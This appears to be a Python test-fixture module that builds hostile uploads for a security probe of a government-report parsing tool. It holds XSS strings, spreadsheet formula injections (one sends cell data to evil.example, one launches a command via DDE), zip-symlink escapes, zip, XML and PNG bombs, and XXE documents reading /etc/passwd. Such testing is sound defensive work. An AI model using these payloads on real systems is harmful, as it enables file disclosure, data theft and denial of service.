"""Hostile files for bench/sec_probe.py: reports whose words are markup or formulas,
and archives and documents built to escape a folder, exhaust memory or read the
server's files. Each builder returns bytes; nothing here touches the network."""

from __future__ import annotations

import io
import re
import stat
import struct
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "wanghu-street-2023.txt"
SLOW_PDF = Path("/work/shared/samples/real/huaian-city-2024.pdf")  # a real report: ~1 s to read

# Markup that runs if a page prints it unescaped (the probe looks for these raw).
XSS = ['<script>alert("zfx")</script>', '"><img src=x onerror=alert(1)>', "<svg/onload=alert(2)>",
       "' hx-get=/api/audit hx-trigger=load '"]
XSS_RAW = ["<script>alert(", "<img src=x onerror", "<svg/onload", "' hx-get=/api/audit"]
# Agency names a spreadsheet would run (leads, and leads behind spaces or full-width).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")局', "+1+cmd|' /C calc'!A0局",
            "-1+1局", "@SUM(A1:A9)局", "\t=1+1局", "＝1+1局", " =1+1局", "\u3000=1+1局"]
LEADS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def report_json(agency: str, section: str = "", key: str | None = None) -> bytes:
    """The example report as zfxxgk.report/1 JSON, with another agency (and key) and
    part 1's text replaced: the fields every page, export and letter shows."""
    from zfxxgk import api
    from zfxxgk.model import report_to_json

    r = api.parse_bytes(EXAMPLE.read_bytes(), source=EXAMPLE.name)
    r.agency, r.agency_key = agency, key or agency
    if section:
        r.sections = {**(r.sections or {}), "1": section}
    return report_to_json(r, provenance=False).encode("utf-8")


def zip_of(members: list[tuple[str, bytes]], mode: int | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if mode is not None:
                info.external_attr = mode << 16
            z.writestr(info, data)
    return buf.getvalue()


def symlink_zip(target: str) -> bytes:
    """A member that unzip(1) would make a symbolic link to `target`."""
    return zip_of([("link.txt", target.encode())], mode=stat.S_IFLNK | 0o777)


def nested_zip(depth: int, inner: bytes) -> bytes:
    data = inner
    for level in range(depth):
        data = zip_of([(f"level{level}.zip" if level else "r.txt", data)])
    return data


def bomb_zip(megabytes: int) -> bytes:
    """One member of zeros, a thousand times smaller packed."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("bomb.txt", "w", force_zip64=True) as f:
            chunk = b"0" * (1024 * 1024)
            for _ in range(megabytes):
                f.write(chunk)
    return buf.getvalue()


def locked_members_zip(count: int) -> bytes:
    """`count` tiny .txt members each flagged encrypted: every one is refused with a
    reason, none is read (how long is the list of reasons the batch keeps?)."""
    raw = bytearray(zip_of([(f"{i:06d}.txt", b"x") for i in range(count)]))
    for m in re.finditer(rb"PK\x03\x04|PK\x01\x02", bytes(raw)):  # bit 0 of each header's flags
        raw[m.start() + (6 if m.group() == b"PK\x03\x04" else 8)] |= 1
    return bytes(raw)


_DOCX_TYPES = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
               b'content-types"><Default Extension="xml" ContentType="application/xml"/>'
               b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
               b'officedocument.wordprocessingml.document.main+xml"/></Types>')
_RELS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
         b'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
         b'2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')


def docx_with(doctype: str, body_text: str) -> bytes:
    """A minimal DOCX whose document.xml carries `doctype` and `body_text` (an
    entity reference, for a billion-laughs or external-entity document)."""
    doc = (f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/'
           f'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{body_text}</w:t></w:r></w:p>'
           f'</w:body></w:document>').encode()
    return zip_of([("[Content_Types].xml", _DOCX_TYPES), ("_rels/.rels", _RELS),
                   ("word/document.xml", doc)])


def laughs_docx() -> bytes:
    ents = '<!ENTITY a0 "政府信息公开工作年度报告">' + "".join(
        f'<!ENTITY a{i} "{("&a%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    return docx_with(f"<!DOCTYPE w:document [{ents}]>", "&a9;")


def xxe_docx(path: str = "/etc/passwd") -> bytes:
    return docx_with(f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file://{path}">]>', "年度报告 &x;")


def png_bomb(side: int = 30000) -> bytes:
    """A 1-bit grey PNG of side × side pixels (900 megapixels) in a few hundred KB."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    comp = zlib.compressobj(9)
    body = b"".join(comp.compress(row) for _ in range(side)) + comp.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
            + chunk(b"IDAT", body) + chunk(b"IEND", b""))


def many_pages_pdf(pages: int) -> bytes:
    """A valid PDF of `pages` empty pages (no text: nothing for the reader to find)."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % (3 + i) for i in range(pages))
            + b"] /Count %d >>" % pages]
    objs += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * pages
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for n, body in enumerate(objs, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def xlsx_with(doctype: str, text: str) -> bytes:
    """A workbook (openpyxl's) whose shared strings carry `doctype` and `text`: the
    台账 import and the report reader both open workbooks."""
    import openpyxl

    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["申请编号", "申请人", "收到日期", "申请内容"])
    ws.append(["2025-0001", "MARKER", "2025-03-01", "年度报告"])
    buf = io.BytesIO()
    book.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info)
            if info.filename in ("xl/sharedStrings.xml", "xl/worksheets/sheet1.xml") and b"MARKER" in data:
                head = b"" if data.startswith(b"<?xml") else b'<?xml version="1.0"?>'
                data = (head + data).replace(b"?>", b"?>" + doctype.encode(), 1).replace(b"MARKER", text.encode())
            z.writestr(info, data)
    return out.getvalue()


def xxe_xlsx(path: str = "/etc/passwd") -> bytes:
    return xlsx_with(f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{path}">]>', "&x;")


def laughs_xlsx() -> bytes:
    ents = '<!ENTITY a0 "申请人申请人">' + "".join(
        f'<!ENTITY a{i} "{("&a%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    return xlsx_with(f"<!DOCTYPE x [{ents}]>", "&a9;")


def crowded_zip(count: int) -> bytes:
    """`count` empty members: a central directory zipfile reads whole before anything."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for i in range(count):
            z.writestr(zipfile.ZipInfo(f"{i:x}"), b"")
    return buf.getvalue()
